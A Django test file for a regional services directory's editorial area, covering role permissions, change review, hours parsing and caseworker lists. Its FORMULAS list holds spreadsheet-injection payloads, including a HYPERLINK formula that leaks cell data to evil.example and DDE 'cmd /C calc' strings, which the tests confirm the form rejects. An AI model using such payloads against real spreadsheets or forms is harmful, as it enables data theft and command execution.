"""The editorial area /manage/: who may open and post what, and the review workflow.

Users: anonymous · carol (caseworker) · erik (editor of A = "Quellkreis Kleve") · bea (editor of B = "Quellstadt Essen")
· mona (moderator of Kreis Kleve) · alice (administrator). Moderators and administrators are signed in with
a verified second factor here; tests/test_editorial_security.py covers signing in for real.
"""

from __future__ import annotations

import re

import pytest
from django.contrib.auth.models import User
from django.db import connection
from django.test.utils import CaptureQueriesContext

from directory.models import (
    Language,
    Phone,
    ProblemReport,
    ProblemReportStatus,
    Schedule,
    Service,
    ServiceFacts,
    ServiceStatus,
)
from directory.services import report_problem
from editorial.forms import format_hours, parse_hours
from editorial.models import ChangeRequest, ChangeRequestStatus, PrivateNote, SavedService, StaffAction
from editorial.permissions import services_editable_by, services_moderated_by
from editorial.services import service_values
from exchange.spreadsheet import read_hours
from tests import factories
from tests.editorial_helpers import KLEVE, make_trusted, sign_in

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("fast_passwords")]
# The named users and services (alice comes from conftest).
pytest_plugins = ["tests.editorial_fixtures"]

USERS = ("anonymous", "carol", "erik", "bea", "mona", "alice")


@pytest.fixture
def world(carol, erik, bea, mona, alice, kleve_service, essen_service):
    """What the matrix's addresses point at: a note, reports, a pending change and two versions."""
    kleve_service._change_reason = "first test version"
    kleve_service.save()
    kleve_service.alternate_name = "KI Kleve"
    kleve_service._change_reason = "second test version"
    kleve_service.save()
    new, old = kleve_service.history.order_by("-history_date", "-history_id")[:2]
    SavedService.objects.create(user=carol, service=kleve_service)
    return {
        "users": {"anonymous": None, "carol": carol, "erik": erik, "bea": bea, "mona": mona, "alice": alice},
        "kleve": kleve_service.pk,
        "essen": essen_service.pk,
        "note": PrivateNote.objects.create(author=carol, service=kleve_service, text="Nur vormittags").pk,
        "report": report_problem(
            service=kleve_service, text="Die Telefonnummer fehlt.", contact="", client_ip="203.0.113.1"
        ).pk,
        "essen_report": report_problem(
            service=essen_service, text="Die Adresse ist alt.", contact="", client_ip="203.0.113.2"
        ).pk,
        "change": ChangeRequest.objects.create(
            service=kleve_service, proposed={"email": "ki@kreis-kleve.de"}, base={"email": ""}, author=erik
        ).pk,
        "old": old.history_id,
        "new": new.history_id,
    }


def edit_data(service: Service, **changes: str) -> dict[str, str]:
    """The edit form as posted: the service's current values, with ``changes``."""
    values = service_values(service)
    data = {f"name_{code}": text for code, text in values["name"].items()}
    data.update({f"description_{code}": text for code, text in values["description"].items()})
    data.update(url=values["url"], email=values["email"], phones="", hours="", languages="")
    place = values["place"] or {}
    exact = place.get("accuracy") == "exact"
    data.update(
        address_1=place.get("address_1", ""),
        postal_code=place.get("postal_code", ""),
        city=place.get("city", ""),
        latitude=str(place["lat"]) if exact else "",
        longitude=str(place["lon"]) if exact else "",
    )
    data.update(changes)
    return data


# Every /manage/ page and write, with the status each user gets (in USERS order). 302 for anonymous is the
# way to sign-in; 302 for a write is its redirect after success; 403: the role may not; 404: not theirs to see.
MATRIX = [
    ("dashboard", "get", "/manage/", None, (302, 200, 200, 200, 200, 200)),
    ("two-factor setup", "get", "/manage/2fa/", None, (302, 200, 200, 200, 302, 302)),
    ("two-factor enrolment, a made-up link", "get", "/manage/2fa/enrol/made-up/", None, (302, 404, 404, 404, 404, 404)),
    ("my list", "get", "/manage/list/", None, (302, 200, 403, 403, 403, 200)),
    ("add to list (ask)", "get", "/manage/list/add/{kleve}/", None, (302, 200, 403, 403, 403, 200)),
    ("add to list", "post", "/manage/list/add/{kleve}/", {}, (302, 302, 403, 403, 403, 302)),
    ("remove from list", "post", "/manage/list/remove/{kleve}/", {}, (302, 302, 403, 403, 403, 302)),
    ("remove from list by GET", "get", "/manage/list/remove/{kleve}/", None, (405, 405, 405, 405, 405, 405)),
    ("my notes", "get", "/manage/notes/", None, (302, 200, 403, 403, 403, 200)),
    ("notes on a service", "get", "/manage/notes/service/{kleve}/", None, (302, 200, 403, 403, 403, 200)),
    ("add a note", "post", "/manage/notes/service/{kleve}/", {"text": "Gut"}, (302, 302, 403, 403, 403, 302)),
    ("carol's note", "get", "/manage/notes/{note}/", None, (302, 200, 403, 403, 403, 404)),
    ("delete carol's note", "post", "/manage/notes/{note}/delete/", {}, (302, 302, 403, 403, 403, 404)),
    ("report queue", "get", "/manage/reports/", None, (302, 403, 403, 403, 200, 200)),
    ("a Kleve report", "get", "/manage/reports/{report}/", None, (302, 403, 403, 403, 200, 200)),
    ("an Essen report", "get", "/manage/reports/{essen_report}/", None, (302, 403, 403, 403, 404, 200)),
    (
        "decide a Kleve report",
        "post",
        "/manage/reports/{report}/",
        {"status": "done", "note": "Nummer ergänzt"},
        (302, 403, 403, 403, 302, 302),
    ),
    (
        "decide an Essen report",
        "post",
        "/manage/reports/{essen_report}/",
        {"status": "done"},
        (302, 403, 403, 403, 404, 302),
    ),
    ("services", "get", "/manage/services/", None, (302, 403, 200, 200, 200, 200)),
    ("a Kleve service", "get", "/manage/services/{kleve}/", None, (302, 403, 200, 404, 200, 200)),
    ("an Essen service", "get", "/manage/services/{essen}/", None, (302, 403, 404, 200, 404, 200)),
    ("edit form", "get", "/manage/services/{kleve}/edit/", None, (302, 403, 200, 404, 200, 200)),
    ("edit", "post", "/manage/services/{kleve}/edit/", "edit", (302, 403, 302, 404, 302, 302)),
    ("confirm", "post", "/manage/services/{kleve}/confirm/", {}, (302, 403, 302, 404, 302, 302)),
    (
        "confirm a group",
        "post",
        "/manage/services/{kleve}/confirm/",
        {"group": "hours"},
        (302, 403, 302, 404, 302, 302),
    ),
    ("confirm in Essen", "post", "/manage/services/{essen}/confirm/", {}, (302, 403, 404, 302, 404, 302)),
    ("versions", "get", "/manage/services/{kleve}/history/", None, (302, 403, 200, 404, 200, 200)),
    (
        "compare versions",
        "get",
        "/manage/services/{kleve}/history/compare/?old={old}&new={new}",
        None,
        (302, 403, 200, 404, 200, 200),
    ),
    ("restore", "post", "/manage/services/{kleve}/history/{old}/restore/", {}, (302, 403, 403, 404, 302, 302)),
    ("changes", "get", "/manage/changes/", None, (302, 403, 200, 200, 200, 200)),
    ("searches without results", "get", "/manage/unmet/", None, (302, 403, 200, 200, 200, 200)),
    ("erik's change", "get", "/manage/changes/{change}/", None, (302, 403, 200, 404, 200, 200)),
    ("approve", "post", "/manage/changes/{change}/approve/", {}, (302, 403, 403, 403, 302, 302)),
    ("reject", "post", "/manage/changes/{change}/reject/", {"reason": "Quelle?"}, (302, 403, 403, 403, 302, 302)),
    ("freshness", "get", "/manage/freshness/", None, (302, 403, 200, 200, 200, 200)),
    ("staff log", "get", "/manage/actions/", None, (302, 403, 403, 403, 403, 200)),
]


@pytest.mark.parametrize("who", range(len(USERS)), ids=USERS)
@pytest.mark.parametrize(("name", "method", "path", "data", "expected"), MATRIX, ids=[row[0] for row in MATRIX])
def test_it_answers_each_role_as_designed(client, world, kleve_service, who, name, method, path, data, expected):
    user = world["users"][USERS[who]]
    sign_in(client, user)
    url = path.format(**world)
    if data == "edit":
        data = edit_data(kleve_service, email="ki@kreis-kleve.de")
    response = client.get(url) if method == "get" else client.post(url, data)
    assert response.status_code == expected[who], f"{USERS[who]} {method.upper()} {url}"
    if user is None and response.status_code == 302:
        assert response.url.startswith("/accounts/login/?next=")


def test_the_matrix_covers_every_editorial_address():
    from editorial.urls import urlpatterns

    covered = {path.split("?")[0] for _name, _method, path, _data, _expected in MATRIX}
    named = {
        "list-add": "/manage/list/add/{kleve}/",
        "list-remove": "/manage/list/remove/{kleve}/",
        "service-notes": "/manage/notes/service/{kleve}/",
        "note": "/manage/notes/{note}/",
        "note-delete": "/manage/notes/{note}/delete/",
        "report": "/manage/reports/{report}/",
        "service": "/manage/services/{kleve}/",
        "service-edit": "/manage/services/{kleve}/edit/",
        "service-confirm": "/manage/services/{kleve}/confirm/",
        "service-history": "/manage/services/{kleve}/history/",
        "service-compare": "/manage/services/{kleve}/history/compare/",
        "service-restore": "/manage/services/{kleve}/history/{old}/restore/",
        "change": "/manage/changes/{change}/",
        "change-approve": "/manage/changes/{change}/approve/",
        "change-reject": "/manage/changes/{change}/reject/",
        "two-factor-enrol": "/manage/2fa/enrol/made-up/",
    }
    for pattern in urlpatterns:
        path = named.get(pattern.name, f"/manage/{pattern.pattern}")
        assert path in covered or pattern.name == "two-factor-verify", pattern.name


# --- Editors and moderators -----------------------------------------------------------------------------


def test_an_editor_of_a_can_neither_read_nor_change_bs_pending_changes(client, erik, bea, essen_service):
    sign_in(client, bea)
    response = client.post(f"/manage/services/{essen_service.pk}/edit/", edit_data(essen_service, email="ki@essen.de"))
    assert response.status_code == 302
    change = ChangeRequest.objects.get(service=essen_service)
    assert change.status == ChangeRequestStatus.PENDING and change.author == bea

    sign_in(client, erik)
    assert client.get(f"/manage/changes/{change.pk}/").status_code == 404
    assert f"/manage/changes/{change.pk}/" not in client.get("/manage/changes/?status=all").content.decode()
    assert client.post(f"/manage/changes/{change.pk}/approve/").status_code == 403
    assert client.post(f"/manage/changes/{change.pk}/reject/", {"reason": "nein"}).status_code == 403
    edit = client.post(f"/manage/services/{essen_service.pk}/edit/", edit_data(essen_service, email="x@example.org"))
    assert edit.status_code == 404
    change.refresh_from_db()
    assert change.status == ChangeRequestStatus.PENDING and change.reviewer is None
    assert change.proposed == {"email": "ki@essen.de"}
    essen_service.refresh_from_db()
    assert essen_service.email == ""


def test_an_editors_change_waits_for_a_moderator_who_applies_it_with_history(client, erik, mona, kleve_service):
    sign_in(client, erik)
    data = edit_data(
        kleve_service,
        name_en="Municipal Integration Centre Kleve",
        email="ki@kreis-kleve.de",
        phones="02821 594-0; voice\n02821 594-100; fax",
        hours="MO-TH 08:30-12:00 walk-in\nTH 14:00-17:30 appointment",
        languages="de, en, ar, TR",
    )
    response = client.post(f"/manage/services/{kleve_service.pk}/edit/", data)
    assert response.status_code == 302
    change = ChangeRequest.objects.get(service=kleve_service)
    assert change.status == ChangeRequestStatus.PENDING
    assert set(change.proposed) == {"name", "email", "phones", "hours", "languages"}
    assert change.proposed["hours"][0] == {
        "byday": "MO,TU,WE,TH",
        "opens_at": "08:30",
        "closes_at": "12:00",
        "attending_type": "walk-in",
    }
    kleve_service.refresh_from_db()
    assert kleve_service.email == "", "nothing published before review"
    assert kleve_service.name["en"] != "Municipal Integration Centre Kleve"
    assert not Phone.objects.filter(service=kleve_service).exists()

    sign_in(client, mona)
    page = client.get(f"/manage/changes/{change.pk}/").content.decode()
    assert "ki@kreis-kleve.de" in page and "Freigeben und veröffentlichen" in page  # German, the default language
    assert client.post(f"/manage/changes/{change.pk}/approve/").status_code == 302

    change.refresh_from_db()
    assert change.status == ChangeRequestStatus.APPROVED and change.reviewer == mona and change.reviewed_at
    kleve_service.refresh_from_db()
    assert kleve_service.email == "ki@kreis-kleve.de"
    assert kleve_service.name["en"] == "Municipal Integration Centre Kleve"
    assert kleve_service.name["de"] == "Kommunales Integrationszentrum Quellkreis Kleve"
    assert sorted(Phone.objects.filter(service=kleve_service).values_list("number", "type")) == [
        ("02821 594-0", "voice"),
        ("02821 594-100", "fax"),
    ]
    assert sorted(Schedule.objects.filter(service=kleve_service).values_list("byday", "attending_type")) == [
        ("MO,TU,WE,TH", "walk-in"),
        ("TH", "appointment"),
    ]
    assert sorted(Language.objects.filter(service=kleve_service).values_list("code", flat=True)) == [
        "ar",
        "de",
        "en",
        "tr",
    ]
    latest = kleve_service.history.latest()
    assert latest.history_change_reason == f"approved change request #{change.pk}, by mona (proposed by erik)"
    assert latest.history_user == mona
    assert Phone.history.filter(service_id=kleve_service.pk, history_user=mona).count() == 2
    assert "Municipal Integration Centre Kleve" in Service.objects.get(pk=kleve_service.pk).search_text

    # A second approval is refused: the change is no longer pending.
    versions = kleve_service.history.count()
    client.post(f"/manage/changes/{change.pk}/approve/")
    assert kleve_service.history.count() == versions
    assert StaffAction.objects.filter(action="change-approved", target_id=str(change.pk)).count() == 1


def test_a_rejection_needs_a_reason_which_the_editor_reads(client, erik, mona, kleve_service):
    before = kleve_service.url
    change = ChangeRequest.objects.create(
        service=kleve_service, proposed={"url": "https://example.org/"}, base={"url": before}, author=erik
    )
    sign_in(client, mona)
    assert client.post(f"/manage/changes/{change.pk}/reject/", {"reason": "   "}).status_code == 400
    change.refresh_from_db()
    assert change.status == ChangeRequestStatus.PENDING

    response = client.post(f"/manage/changes/{change.pk}/reject/", {"reason": "Die Seite gehört nicht zum Kreis."})
    assert response.status_code == 302
    change.refresh_from_db()
    assert change.status == ChangeRequestStatus.REJECTED and change.reviewer == mona
    assert change.reason == "Die Seite gehört nicht zum Kreis."
    kleve_service.refresh_from_db()
    assert kleve_service.url == before

    sign_in(client, erik)
    assert "Die Seite gehört nicht zum Kreis." in client.get("/manage/").content.decode()


def test_a_trusted_editors_change_applies_at_once(client, erik, kleve_service):
    make_trusted(erik)
    sign_in(client, erik)
    response = client.post(
        f"/manage/services/{kleve_service.pk}/edit/", edit_data(kleve_service, url="https://www.kreis-kleve.de/ki")
    )
    assert response.status_code == 302
    assert not ChangeRequest.objects.exists()
    kleve_service.refresh_from_db()
    assert kleve_service.url == "https://www.kreis-kleve.de/ki"
    latest = kleve_service.history.latest()
    assert latest.history_change_reason == "edited by erik in /manage/ (url)" and latest.history_user == erik


def test_it_keeps_the_filter_counts_stored_facts_current_when_only_hours_and_languages_change(
    client, erik, kleve_service
):
    counted = Service.objects.filter(pk=kleve_service.pk)
    before = counted.facts_stated(["ar", "uk"])
    assert before["walk_in"] == 0 and before["language_ar"] == 0 and before["language_uk"] == 0
    make_trusted(erik)
    sign_in(client, erik)
    edit = edit_data(kleve_service, hours="MO-TH 08:30-12:00 walk-in", languages="de, ar")
    assert client.post(f"/manage/services/{kleve_service.pk}/edit/", edit).status_code == 302
    after = counted.facts_stated(["ar", "uk"])
    assert after["walk_in"] == 1 and after["hours"] == 1 and after["language_ar"] == 1 and after["language_uk"] == 0
    # The stored row says what the records say (the rule the filters apply), not only what this edit wrote.
    assert ServiceFacts.objects.get(service=kleve_service).walk_in == counted.walk_in().exists()


def test_moving_a_service_at_location_in_the_admin_moves_its_facts_to_the_other_service(client, alice):
    """The hours of a place whose offer is given to another service stop counting for the one it left."""
    leaving, taking = factories.office(name="Quellberatung Alt"), factories.service(name="Quellberatung Neu")
    offered = leaving.service_at_locations.get()
    factories.schedule(location=offered.location)
    assert ServiceFacts.objects.get(service=leaving).walk_in
    sign_in(client, alice)
    address = f"/admin/directory/serviceatlocation/{offered.pk}/change/"
    page = client.get(address).content.decode()
    # The inlines' management forms as the page has them: no inline row is added or changed.
    data = dict(re.findall(r'name="([\w-]+-(?:TOTAL|INITIAL|MIN_NUM|MAX_NUM)_FORMS)"[^>]*value="(\d+)"', page))
    assert data and all(value == "0" for name, value in data.items() if "TOTAL" in name)
    data |= {
        "service": str(taking.pk),
        "location": str(offered.location_id),
        "verification_state": offered.verification_state,
    }
    response = client.post(address, data)
    assert response.status_code == 302, response.context["adminform"].form.errors
    assert not ServiceFacts.objects.get(service=leaving).walk_in
    assert ServiceFacts.objects.get(service=taking).walk_in


def test_an_editors_change_to_an_unpublished_record_applies_at_once(client, erik, kleve_service):
    Service.objects.filter(pk=kleve_service.pk).update(status=ServiceStatus.INACTIVE)
    sign_in(client, erik)
    client.post(f"/manage/services/{kleve_service.pk}/edit/", edit_data(kleve_service, email="neu@kreis-kleve.de"))
    assert not ChangeRequest.objects.exists()
    assert Service.objects.get(pk=kleve_service.pk).email == "neu@kreis-kleve.de"


EDITORS_HOURS = "Mo–Fr 9–12 Uhr, Di 14–17 Uhr nach Vereinbarung"


def test_the_form_reads_hours_as_editors_write_them_and_shows_them_so(client, erik, kleve_service):
    sign_in(client, erik)
    response = client.post(f"/manage/services/{kleve_service.pk}/edit/", edit_data(kleve_service, hours=EDITORS_HOURS))
    assert response.status_code == 302
    change = ChangeRequest.objects.get(service=kleve_service)
    assert change.proposed["hours"] == [
        {"byday": "MO,TU,WE,TH,FR", "opens_at": "09:00", "closes_at": "12:00", "attending_type": ""},
        {"byday": "TU", "opens_at": "14:00", "closes_at": "17:00", "attending_type": "appointment"},
    ]
    written = format_hours(change.proposed["hours"])
    assert written == "Mo–Fr 9:00–12:00\nDi 14:00–17:00 nach Vereinbarung"
    assert parse_hours(written) == change.proposed["hours"], "what the form shows reads back the same"


def test_the_form_and_the_spreadsheet_read_hours_alike():
    sheet_slots = [
        {
            "byday": s.byday,
            "opens_at": f"{s.opens:%H:%M}",
            "closes_at": f"{s.closes:%H:%M}",
            "attending_type": s.attending_type,
        }
        for s in read_hours(EDITORS_HOURS)
    ]
    assert sorted(sheet_slots, key=str) == sorted(parse_hours(EDITORS_HOURS), key=str)


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("hours", "Mox 9-12", "„Mox 9-12“: unbekannter Tag „Mox“"),
        ("hours", "Mo 9-12; geschlossen am 24.12.2026", "Schließtage bleiben hier unverändert"),
        ("phones", "0201 1; Faxx", "Unbekannter Telefontyp „Faxx“"),
        ("languages", "de, deutsch", "„deutsch“ ist kein ISO-639-Sprachcode"),
    ],
)
def test_the_form_names_what_it_cannot_read(client, erik, kleve_service, field, value, message):
    sign_in(client, erik)
    response = client.post(f"/manage/services/{kleve_service.pk}/edit/", edit_data(kleve_service, **{field: value}))
    assert response.status_code == 400
    assert message in response.content.decode().replace("&#x27;", "'")


def test_it_refuses_a_malformed_edit(client, erik, kleve_service):
    sign_in(client, erik)
    for field, value in [
        ("hours", "Montags 9 bis 12"),
        ("hours", "MO 12:00-09:00"),
        ("phones", "ruf mich an"),
        ("languages", "deutsch"),
        ("name_de", ""),
        ("name_de", "x" * 301),
        ("email", "not-an-address"),
    ]:
        response = client.post(f"/manage/services/{kleve_service.pk}/edit/", edit_data(kleve_service, **{field: value}))
        assert response.status_code == 400, (field, value)
    assert not ChangeRequest.objects.exists()


# What a spreadsheet would evaluate, typed into the staff form's text fields (directory/formulas.py).
FORMULAS = [
    ("name_de", '=HYPERLINK("https://evil.example/?d="&A1,"Termin buchen")', "„=“"),
    ("description_en", "+cmd|' /C calc'!A0", "„+“"),
    ("address_1", "-2+3+cmd|' /C calc'!A0", "„-“"),
    ("city", "@SUM(1)", "„@“"),
]


@pytest.mark.parametrize("editor", ["erik", "mona"])
@pytest.mark.parametrize(("field", "value", "char"), FORMULAS)
def test_the_staff_form_refuses_a_formula_and_saves_nothing(request, client, kleve_service, editor, field, value, char):
    """erik's edits wait for review, mona's apply at once: neither may get a formula into the catalogue."""
    sign_in(client, request.getfixturevalue(editor))
    before = service_values(kleve_service)
    response = client.post(f"/manage/services/{kleve_service.pk}/edit/", edit_data(kleve_service, **{field: value}))
    assert response.status_code == 400
    html = response.content.decode()
    assert f"beginnt mit {char} wie eine Tabellenformel" in html, "the form says what is wrong, in German"
    kleve_service.refresh_from_db()
    assert service_values(kleve_service) == before and not ChangeRequest.objects.exists()


def test_the_staff_form_takes_a_phone_number_written_with_plus_and_minus(client, mona, kleve_service):
    sign_in(client, mona)
    phones = "+49 201 88-0; voice\n+49 (0) 2821 594-200; fax"
    response = client.post(f"/manage/services/{kleve_service.pk}/edit/", edit_data(kleve_service, phones=phones))
    assert response.status_code == 302, "digits with + or - are a number, not a formula"
    numbers = set(Phone.objects.filter(service=kleve_service).values_list("number", "type"))
    assert numbers == {("+49 201 88-0", "voice"), ("+49 (0) 2821 594-200", "fax")}


def test_the_versions_are_compared_and_restorable(client, mona, kleve_service):
    sign_in(client, mona)
    client.post(f"/manage/services/{kleve_service.pk}/edit/", edit_data(kleve_service, name_de="KI Kleve (neu)"))
    kleve_service.refresh_from_db()
    assert kleve_service.name["de"] == "KI Kleve (neu)", "a moderator's edit in their region applies at once"
    new, old = kleve_service.history.order_by("-history_date", "-history_id")[:2]

    page = client.get(f"/manage/services/{kleve_service.pk}/history/compare/?old={old.history_id}&new={new.history_id}")
    assert page.status_code == 200
    html = page.content.decode()
    assert "KI Kleve (neu)" in html and "Kommunales Integrationszentrum Quellkreis Kleve" in html
    assert client.get(f"/manage/services/{kleve_service.pk}/history/compare/?old=x&new=1").status_code == 404

    assert client.post(f"/manage/services/{kleve_service.pk}/history/{old.history_id}/restore/").status_code == 302
    kleve_service.refresh_from_db()
    assert kleve_service.name["de"] == "Kommunales Integrationszentrum Quellkreis Kleve"
    restored = kleve_service.history.latest()
    assert restored.history_change_reason.startswith("restored the version of") and restored.history_user == mona
    assert kleve_service.history.count() >= 3, "every version is kept"


def test_a_version_of_another_record_is_not_found(client, mona, kleve_service, essen_service):
    essen_service.save()
    sign_in(client, mona)
    other = essen_service.history.latest()
    assert client.post(f"/manage/services/{kleve_service.pk}/history/{other.history_id}/restore/").status_code == 404


def test_a_moderators_region_is_by_service_area_or_by_place(mona, bea, kleve_service, essen_service):
    factories.service(name="Quell-Jobcenter Kreis Kleve", service_type="jobcenter", areas=[KLEVE])  # no place
    region = set(services_moderated_by(mona).values_list("name__de", flat=True))
    assert "Kommunales Integrationszentrum Quellkreis Kleve" in region
    assert "Quell-Jobcenter Kreis Kleve" in region
    assert "Kommunales Integrationszentrum Quellstadt Essen" not in region
    # A service responsible elsewhere but with a place in Kreis Kleve is in the region too.
    essen_service.service_areas.all().delete()
    location = kleve_service.service_at_locations.first().location
    essen_service.service_at_locations.create(location=location)
    assert services_moderated_by(mona).filter(pk=essen_service.pk).exists()
    # Editors see their organisation's services only.
    assert set(services_editable_by(bea).values_list("organization__name__de", flat=True)) == {"Quellstadt Essen"}


# --- Caseworkers ----------------------------------------------------------------------------------------


def test_a_caseworker_keeps_a_list_and_makes_a_slip_of_it(client, carol, kleve_service, essen_service):
    sign_in(client, carol)
    for service in (kleve_service, essen_service, kleve_service):
        response = client.post(f"/manage/list/add/{service.pk}/", {"next": f"/de/services/{service.pk}/"})
        assert response.status_code == 302 and response.url == f"/de/services/{service.pk}/"
    assert SavedService.objects.filter(user=carol).count() == 2
    page = client.get("/manage/list/").content.decode()
    assert "Kommunales Integrationszentrum Quellkreis Kleve" in page and "/referral/?s=" in page
    client.post(f"/manage/list/remove/{essen_service.pk}/")
    assert list(SavedService.objects.filter(user=carol).values_list("service", flat=True)) == [kleve_service.pk]
    assert client.post("/manage/list/add/not-a-uuid/").status_code == 404
    response = client.post(f"/manage/list/add/{essen_service.pk}/", {"next": "https://evil.example/"})
    assert response.url == "/manage/list/", "no redirect off the site"


def test_a_caseworkers_report_is_filled_in_and_lands_in_the_moderation_queue(client, carol, mona, kleve_service):
    sign_in(client, carol)
    form = client.get(f"/de/services/{kleve_service.pk}/report/").content.decode()
    assert 'value="carol@example.org"' in form
    response = client.post(
        f"/de/services/{kleve_service.pk}/report/",
        {"text": "Die Sprechzeiten haben sich geändert.", "contact": "carol@example.org"},
    )
    assert response.status_code == 302
    report = ProblemReport.objects.get(service=kleve_service)
    assert report.reporter == carol and report.contact == "carol@example.org"

    sign_in(client, mona)
    queue = client.get("/manage/reports/").content.decode()
    assert "Die Sprechzeiten haben sich geändert." in queue and "carol" in queue
    assert client.post(f"/manage/reports/{report.pk}/", {"status": "rejected"}).status_code == 400, "needs a note"
    assert client.post(f"/manage/reports/{report.pk}/", {"status": "accepted", "note": "Prüfe ich"}).status_code == 302
    report.refresh_from_db()
    assert report.status == ProblemReportStatus.ACCEPTED and report.moderator_note == "Prüfe ich"
    assert StaffAction.objects.filter(user=mona, action="report-decided", target_id=str(report.pk)).exists()
    assert "Die Sprechzeiten" not in client.get("/manage/reports/").content.decode(), "no longer open"


def test_a_public_report_lands_in_the_queue_of_the_services_region_only(
    client, mona, bea, kleve_service, essen_service
):
    for service in (kleve_service, essen_service):
        client.post(f"/de/services/{service.pk}/report/", {"text": f"Fehler bei {service.name['de']}", "contact": ""})
    sign_in(client, mona)
    queue = client.get("/manage/reports/").content.decode()
    assert "Fehler bei Kommunales Integrationszentrum Quellkreis Kleve" in queue
    assert "Fehler bei Kommunales Integrationszentrum Quellstadt Essen" not in queue


def test_every_editorial_write_is_in_the_staff_log_which_only_admins_read(client, alice, erik, kleve_service):
    sign_in(client, erik)
    client.post(f"/manage/services/{kleve_service.pk}/confirm/")  # waits for review: proposed
    client.post(f"/manage/services/{kleve_service.pk}/edit/", edit_data(kleve_service, email="a@kreis-kleve.de"))
    make_trusted(erik)
    client.post(f"/manage/services/{kleve_service.pk}/confirm/")
    actions = list(StaffAction.objects.filter(user=erik).values_list("action", flat=True))
    assert sorted(actions) == ["change-proposed", "change-proposed", "confirmed"]
    assert client.get("/manage/actions/").status_code == 403
    sign_in(client, alice)
    log = client.get("/manage/actions/").content.decode()
    assert "erik" in log and "Änderung beantragt" in log and "als noch aktuell bestätigt" in log


def test_a_user_without_a_role_is_refused(client, db):
    nobody = User.objects.create_user("nobody", "n@example.org", "x")
    sign_in(client, nobody)
    assert client.get("/manage/").status_code == 403


def test_the_list_pages_take_a_fixed_number_of_queries(client, world, alice, carol, erik, kleve_service):
    """No N+1: twenty more rows on every list page cost no query more."""
    # Every page first reads who is signed in: the session, the user, (an administrator's verified second
    # factor,) their editor memberships, groups and moderator regions.
    roles = {alice: 6, carol: 5, erik: 5}
    # Then what the page lists: mostly the number of rows and a page of them.
    pages = {
        alice: {
            "/manage/": 3,  # their own pending changes, the changes to review, the open reports
            "/manage/reports/?status=all": 2,
            "/manage/changes/?status=all": 2,
            "/manage/actions/": 2,
        },
        carol: {"/manage/list/": 1, "/manage/notes/": 2},  # the saved services; the notes: count and page
        erik: {
            "/manage/": 2,  # the services of the editor's organisations, their pending changes
            "/manage/services/": 2,
            "/manage/changes/?status=all": 2,
        },
    }

    def counts() -> dict[str, int]:
        found = {}
        for user, urls in pages.items():
            sign_in(client, user)
            client.get("/manage/")  # the first request after signing in also writes the session
            for url in urls:
                with CaptureQueriesContext(connection) as captured:
                    assert client.get(url).status_code == 200
                found[f"{user} {url}"] = len(captured)
        return found

    expected = {f"{user} {url}": roles[user] + count for user, urls in pages.items() for url, count in urls.items()}
    StaffAction.objects.create(user=erik, username="erik", action="confirmed")  # an empty page takes one query less
    assert counts() == expected
    for number in range(20):
        service = factories.service(name=f"Quellangebot {number}")
        report_problem(service=service, text=f"Fehler Nummer {number}", contact="", client_ip=f"192.0.2.{number}")
        SavedService.objects.create(user=carol, service=service)
        PrivateNote.objects.create(author=carol, service=service, text=f"Notiz {number}")
        own = factories.service(name=f"Quellangebot A {number}", organization=kleve_service.organization)
        ChangeRequest.objects.create(service=own, proposed={"email": f"{number}@x.de"}, author=erik)
        StaffAction.objects.create(user=erik, username="erik", action="confirmed", target_repr=str(service))
    assert counts() == expected


# The snippets for directory/templates/directory/service.html (see the editorial report): checked here.
ADD_TO_LIST = (
    "{% load i18n editorial_tags %}"
    '{% if user|is_caseworker %}<li><form method="post" action="{% url \'editorial:list-add\' service.pk %}">'
    '{% csrf_token %}<input type="hidden" name="next" value="{{ request.get_full_path }}">'
    '<button type="submit" class="alt">{% translate "Add to my list" %}</button></form></li>{% endif %}'
)


def test_the_add_to_list_button_shows_for_caseworkers_only(rf, carol, erik, kleve_service):
    from django.contrib.auth.models import AnonymousUser
    from django.template import RequestContext, Template

    def render(user) -> str:
        request = rf.get(f"/de/services/{kleve_service.pk}/")
        request.user = user
        return Template(ADD_TO_LIST).render(RequestContext(request, {"service": kleve_service}))

    button = render(carol)
    assert f'action="/manage/list/add/{kleve_service.pk}/"' in button and "csrfmiddlewaretoken" in button
    assert f'value="/de/services/{kleve_service.pk}/"' in button
    assert render(erik) == render(AnonymousUser()) == ""
